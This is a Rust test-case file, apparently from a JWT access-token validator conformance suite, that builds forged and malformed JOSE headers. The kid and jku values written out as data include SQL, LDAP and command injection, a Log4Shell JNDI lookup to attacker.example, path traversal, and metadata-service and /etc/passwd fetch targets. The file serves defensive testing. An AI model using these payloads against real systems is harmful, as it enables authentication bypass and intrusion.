//! The JOSE header: key names, embedded keys, critical members, types.

use serde_json::{Value, json};

use super::Verdict::{Granted, GrantedOrInvalid, InvalidToken, KeyNotLookedUp};
use super::{List, Target, swapped_case};

pub(super) fn list(list: &mut List, target: &Target<'_>) {
    embedded_keys(list, target);
    key_names(list, target);
    critical(list, target);
    types(list, target);
    other_formats(list, target);
}

fn embedded_keys(list: &mut List, target: &Target<'_>) {
    let stranger = target.issuer.foreign_key();
    let kid = target.issuer.signing_key().kid().to_owned();
    // If anybody fetches from here, the issuer counts it.
    let elsewhere = format!("{}/elsewhere/keys", target.issuer.url());
    let x5c = json!([stranger.x5c()]);
    let forged = || target.token().signed_by(&stranger).header("kid", &kid);
    list.add(
        InvalidToken,
        "whoever forges a token can put his own key into it, or point to it",
        "RFC 8725 section 3.10; CVE-2018-0114",
        [
            ("forged_with_jwk_in_header", forged().header("jwk", stranger.jwk())),
            ("forged_with_jwk_under_the_right_kid", forged().header("jwk", stranger.with_kid(&kid).jwk())),
            ("forged_with_jku", forged().header("jku", &elsewhere)),
            ("forged_with_jku_of_a_file", forged().header("jku", "file:///etc/passwd")),
            ("forged_with_jku_of_an_internal_host", forged().header("jku", "http://169.254.169.254/latest/meta-data")),
            ("forged_with_x5u", forged().header("x5u", &elsewhere)),
            ("forged_with_x5c", forged().header("x5c", &x5c)),
            ("forged_with_x5t", forged().header("x5t", stranger.thumbprint())),
        ],
    );
    list.add(
        KeyNotLookedUp,
        "a key in the header is no published key, by whatever name",
        "RFC 8725 section 3.10; CVE-2018-0114",
        [
            ("forged_with_jwk_under_its_own_kid", target.token().signed_by(&stranger).header("jwk", stranger.jwk())),
            ("forged_with_jku_under_its_own_kid", target.token().signed_by(&stranger).header("jku", &elsewhere)),
            ("forged_with_x5c_under_its_own_kid", target.token().signed_by(&stranger).header("x5c", &x5c)),
        ],
    );
    list.add(
        Granted,
        "members that name a key in other ways are not read, and nothing is fetched for them",
        "RFC 7515 sections 4.1.2 to 4.1.6; RFC 8725 section 3.10",
        [
            ("jwk_in_header_of_a_good_token", target.token().header("jwk", stranger.jwk())),
            ("jku_in_header_of_a_good_token", target.token().header("jku", &elsewhere)),
            ("x5u_in_header_of_a_good_token", target.token().header("x5u", &elsewhere)),
            ("x5c_in_header_of_a_good_token", target.token().header("x5c", &x5c)),
            ("x5t_of_another_key_beside_the_right_kid", target.token().header("x5t", stranger.thumbprint())),
        ],
    );
}

fn key_names(list: &mut List, target: &Target<'_>) {
    let named = |kid: &str| target.token().header("kid", kid);
    let kid = target.issuer.signing_key().kid().to_owned();
    list.add(
        KeyNotLookedUp,
        "`kid` is a name to look up, never a path, a query, a command or an address",
        "RFC 7515 section 4.1.4; RFC 8725 section 3.10",
        [
            ("kid_empty", named("")),
            ("kid_path_traversal", named("../../../../dev/null")),
            ("kid_absolute_path", named("/proc/sys/kernel/randomize_va_space")),
            ("kid_sql_injection", named("x' UNION SELECT 'secret' --")),
            ("kid_ldap_injection", named("*)(objectClass=*")),
            ("kid_command_injection", named("|sleep 10")),
            ("kid_template_injection", named("${jndi:ldap://attacker.example/x}")),
            ("kid_url", named("https://attacker.example/key.pem")),
            ("kid_with_nul", named(&format!("{kid}\0"))),
            ("kid_with_line_break", named("x\r\nSet-Cookie: a=b")),
            ("kid_with_quote", named("x\", error=\"none")),
            ("kid_outside_ascii", named("ключ")),
            ("kid_like_a_prototype", named("__proto__")),
            ("kid_with_space_after_it", named(&format!("{kid} "))),
            ("kid_in_another_case", named(&swapped_case(&kid))),
            ("kid_cut_short", named(&kid[..kid.len() - 1])),
            ("kid_of_twenty_kilobytes", named(&"k".repeat(14_000))),
            ("kid_wildcard", named("*")),
            ("kid_index", named("0")),
        ],
    );
    list.add(
        InvalidToken,
        "`kid` is a string",
        "RFC 7515 section 4.1.4",
        [
            ("kid_number", target.token().header("kid", 0)),
            ("kid_boolean", target.token().header("kid", true)),
            ("kid_array", target.token().header("kid", [&kid])),
            ("kid_object", target.token().header("kid", json!({ "kid": kid }))),
        ],
    );
    // A provider with one key may leave `kid` out; Entra ID always has several.
    let without_kid = if target.is_entra() { InvalidToken } else { GrantedOrInvalid };
    list.add(
        without_kid,
        "trying keys until one fits lets a token choose its key",
        "RFC 8725 section 3.8; Entra: Access tokens in the Microsoft identity platform (validate the signature)",
        [
            ("kid_missing", target.token().without_header("kid")),
            ("kid_null", target.token().header("kid", json!(null))),
        ],
    );
    if target.is_entra() {
        let v1 = || target.token().v1();
        list.add(
            GrantedOrInvalid,
            "v1 tokens name their key twice; `x5t` alone names it just as well",
            "Entra: Access token claims reference (header claims); RFC 7515 section 4.1.7",
            [("v1_with_x5t_and_no_kid", v1().without_header("kid")), ("v1_with_x5t_number", v1().header("x5t", 7))],
        );
        list.add(
            InvalidToken,
            "nothing names the key",
            "Entra: Access tokens in the Microsoft identity platform (validate the signature)",
            [
                ("v1_with_neither_kid_nor_x5t", v1().without_header("kid").without_header("x5t")),
                ("v1_with_foreign_x5t_and_no_kid", {
                    v1().without_header("kid").header("x5t", target.issuer.foreign_key().thumbprint())
                }),
            ],
        );
        list.add(
            Granted,
            "where `kid` names a key, `x5t` has no say",
            "RFC 7515 section 4.1.4; Entra: Access token claims reference (header claims)",
            [
                ("v1_with_kid_and_no_x5t", v1().without_header("x5t")),
                ("v1_with_kid_and_foreign_x5t", v1().header("x5t", target.issuer.foreign_key().thumbprint())),
            ],
        );
    }
}

fn critical(list: &mut List, target: &Target<'_>) {
    let crit = |names: Value| target.token().header("crit", names);
    list.add(
        InvalidToken,
        "`crit` says: refuse this unless you understand that; an ill-formed one says nothing better",
        "RFC 7515 section 4.1.11",
        [
            ("crit_with_unknown_name", crit(json!(["x"])).header("x", true)),
            ("crit_with_absent_name", crit(json!(["x"]))),
            ("crit_with_registered_claim", crit(json!(["exp"])).header("exp", 9_999_999_999_u64)),
            ("crit_with_registered_member", crit(json!(["alg"]))),
            ("crit_empty", crit(json!([]))),
            ("crit_empty_name", crit(json!([""]))),
            ("crit_string", crit(json!("b64"))),
            ("crit_number_inside", crit(json!([1]))),
            ("crit_null", crit(json!(null))),
            ("crit_false", crit(json!(false))),
            ("crit_object", crit(json!({ "x": true }))),
            ("crit_name_twice", crit(json!(["x", "x"])).header("x", 1)),
        ],
    );
    list.add(
        InvalidToken,
        "a token whose claims are not encoded is none",
        "RFC 7797 sections 5.2 and 7",
        [
            ("b64_false_with_crit", crit(json!(["b64"])).header("b64", false)),
            ("b64_true_with_crit", crit(json!(["b64"])).header("b64", true)),
            ("b64_false_without_crit", target.token().header("b64", false)),
            ("b64_true_without_crit", target.token().header("b64", true)),
        ],
    );
}

fn types(list: &mut List, target: &Target<'_>) {
    let typ = |value: Value| target.token().header("typ", value);
    list.add(
        Granted,
        "`typ` is a media type: its case and an omitted `application/` mean nothing",
        "RFC 9068 section 2.1; RFC 7515 section 4.1.9; RFC 8725 section 3.11",
        [
            ("typ_at_jwt", typ(json!("at+jwt"))),
            ("typ_at_jwt_in_upper_case", typ(json!("AT+JWT"))),
            ("typ_at_jwt_in_mixed_case", typ(json!("at+JWT"))),
            ("typ_application_at_jwt", typ(json!("application/at+jwt"))),
            ("typ_application_at_jwt_in_mixed_case", typ(json!("Application/at+JWT"))),
        ],
    );
    // RFC 9068 asks for `at+jwt`; few providers write it, and an API may insist.
    let untyped = if target.is_entra() { Granted } else { GrantedOrInvalid };
    list.add(
        untyped,
        "most issuers, Entra ID among them, type an access token as a JWT or not at all",
        "Entra: Access token claims reference (header claims); RFC 7519 section 5.1",
        [
            ("typ_jwt", typ(json!("JWT"))),
            ("typ_jwt_in_lower_case", typ(json!("jwt"))),
            ("typ_missing", target.token().without_header("typ")),
        ],
    );
    list.add(
        InvalidToken,
        "a token of another type is not an access token, however well signed",
        "RFC 8725 sections 3.11 and 3.12",
        [
            ("typ_dpop_proof", typ(json!("dpop+jwt"))),
            ("typ_logout_token", typ(json!("logout+jwt"))),
            ("typ_security_event", typ(json!("secevent+jwt"))),
            ("typ_introspection_response", typ(json!("token-introspection+jwt"))),
            ("typ_authorization_request", typ(json!("oauth-authz-req+jwt"))),
            ("typ_application_logout_token", typ(json!("application/logout+jwt"))),
            ("typ_jose", typ(json!("JOSE"))),
            ("typ_jose_json", typ(json!("JOSE+JSON"))),
            ("typ_empty", typ(json!(""))),
            ("typ_unknown", typ(json!("x"))),
            ("typ_with_right_beginning", typ(json!("at+jwt2"))),
            ("typ_with_right_end", typ(json!("xat+jwt"))),
            ("typ_number", typ(json!(1))),
            ("typ_array", typ(json!(["JWT"]))),
        ],
    );
    list.add(
        GrantedOrInvalid,
        "`null` may count as absent or as a wrong type",
        "RFC 7515 section 4.1.9",
        [("typ_null", typ(json!(null)))],
    );
}

fn other_formats(list: &mut List, target: &Target<'_>) {
    list.add(
        InvalidToken,
        "a token within a token would have to be unwrapped first",
        "RFC 7519 section 5.2",
        [
            ("cty_jwt", target.token().header("cty", "JWT")),
            ("cty_jwt_in_lower_case", target.token().header("cty", "jwt")),
            ("token_inside_a_token", {
                let inner = target.token().sign();
                target.token().header("cty", "JWT").raw_claims(&inner)
            }),
        ],
    );
    list.add(
        InvalidToken,
        "a header with `nonce` marks a token for Microsoft Graph, which nobody else can check",
        "Entra: Access tokens in the Microsoft identity platform (validate tokens)",
        [("nonce_in_header", target.token().header("nonce", "AQABAAAAAAD"))],
    );
    list.add(
        Granted,
        "members of encryption mean nothing in a signed token, and cost nothing",
        "RFC 7515 section 4; RFC 8725 section 3.13 (draft-ietf-oauth-rfc8725bis)",
        [
            ("p2c_in_header", target.token().header("p2c", 2_147_483_647)),
            ("epk_in_header", target.token().header("epk", json!({ "kty": "EC" }))),
        ],
    );
    list.add(
        GrantedOrInvalid,
        "members that are only found in encrypted tokens may be taken for a sign of one",
        "RFC 7516 section 4.1; CVE-2024-21319",
        [
            ("enc_in_header", target.token().header("enc", "A256GCM")),
            ("zip_in_header", target.token().header("zip", "DEF")),
        ],
    );
}
